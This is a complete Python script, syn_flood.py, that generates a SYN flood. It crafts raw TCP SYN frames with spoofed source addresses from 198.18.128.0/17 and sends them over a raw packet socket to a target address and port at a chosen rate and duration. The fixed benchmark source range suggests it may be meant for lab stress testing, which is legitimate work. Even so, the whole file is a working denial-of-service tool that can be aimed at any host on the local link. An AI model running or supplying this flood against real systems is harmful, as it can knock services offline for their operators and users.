#!/usr/bin/python3
# SPDX-License-Identifier: BSD-3-Clause
"""syn_flood.py DEVICE ADDRESS PORT PER_SECOND SECONDS: SYNs from invented addresses of 198.18.128.0/17.
The host must have talked to ADDRESS before: its MAC address comes from the kernel's table."""

import random
import socket
import struct
import subprocess
import sys
import time


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def syn(own, there, port):
    source = socket.inet_aton(f"198.18.{random.randrange(128, 256)}.{random.randrange(256)}")
    tcp = struct.pack("!HHIIBBHHHBBH", random.randrange(1024, 65535), port,
                      random.getrandbits(32), 0, 0x60, 2, 65535, 0, 0, 2, 4, 1460)
    pseudo = source + there + struct.pack("!HH", 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, 6, 0) + source + there
    return own + ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:] + tcp


def main():
    device, address, port, rate, seconds = sys.argv[1:]
    entry = subprocess.run(["ip", "neigh", "show", address, "dev", device], check=True,
                           capture_output=True, text=True).stdout.split()
    there_mac = bytes.fromhex(entry[entry.index("lladdr") + 1].replace(":", ""))
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    wire.bind((device, 0))
    ethernet = there_mac + wire.getsockname()[4] + b"\x08\x00"
    frames = [syn(ethernet, socket.inet_aton(address), int(port)) for _ in range(20000)]
    start, sent = time.monotonic(), 0
    while time.monotonic() - start < float(seconds):
        if sent < (time.monotonic() - start) * float(rate):
            wire.send(frames[sent % len(frames)])
            sent += 1
        else:
            time.sleep(0.0005)
    print(sent, "sent")


main()
